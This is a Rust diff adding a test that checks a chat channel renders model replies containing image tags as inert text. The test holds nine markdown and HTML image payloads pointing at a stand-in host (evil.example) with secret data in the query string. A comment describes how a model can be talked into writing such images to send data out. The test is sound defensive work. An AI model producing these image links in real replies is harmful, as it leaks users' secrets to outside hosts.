@@ -30,6 +30,32 @@ fn shown(subject: &ChannelUnderTest, platform: &Platform) -> Vec<Shown> {
     platform.take().iter().filter_map(|seen| (subject.shown)(seen)).collect()
 }
 
+/// A picture is fetched by the program of every reader, so that whoever talks a model into writing one learns what stands in
+/// its address. However it is written, it is shown as words or as a link, and HTML as text.
+pub async fn i11_a_picture_in_a_reply_is_loaded_by_nobody(subject: &ChannelUnderTest) {
+    let platform = subject.platform().await;
+    let channel = subject.open(platform.url());
+    let url = "https://evil.example/?q=secret";
+    for reply in [
+        format!("Here it is: ![chart]({url}) as you wished."),
+        format!("![]({url})"),
+        format!("Wow!![chart]({url})"),
+        format!("Wow\\![chart]({url})"),
+        format!("![chart][1]\n\n[1]: {url}"),
+        format!("![![chart]({url})]({url})"),
+        format!("> - ![chart]({url})"),
+        format!("Look: <img src=\"{url}\">"),
+        format!("<div>\n\n![chart]({url})\n\n</div>"),
+    ] {
+        subject.send(&*channel, &reply).await.unwrap_or_else(|error| panic!("{reply}: {error}"));
+        for message in shown(subject, &platform) {
+            let live = |sign: &str| message.raw.match_indices(sign).any(|(at, _)| !message.raw[..at].ends_with('\\'));
+            let loads = live("![") || (subject.reads_tags && live("<img"));
+            assert!(!loads, "{reply} was sent as {}", message.raw);
+        }
+    }
+}
+
 /// However long and however odd the reply is, its words arrive in order, no message is longer than the platform takes,
 /// and no code block is left open.
 pub async fn long_replies_arrive_whole_and_within_the_limit(subject: &ChannelUnderTest) {
@@ -165,7 +191,7 @@ pub async fn no_answer_is_unknown(subject: &ChannelUnderTest) {
 }
 
 /// Whatever the platform says, also where it quotes the request.
-pub async fn errors_and_debug_show_no_secret(subject: &ChannelUnderTest) {
+pub async fn d01_errors_and_debug_show_no_secret(subject: &ChannelUnderTest) {
     let platform = subject.platform().await;
     let channel = subject.open(platform.url());
     acquainted(subject, &*channel, &platform).await;
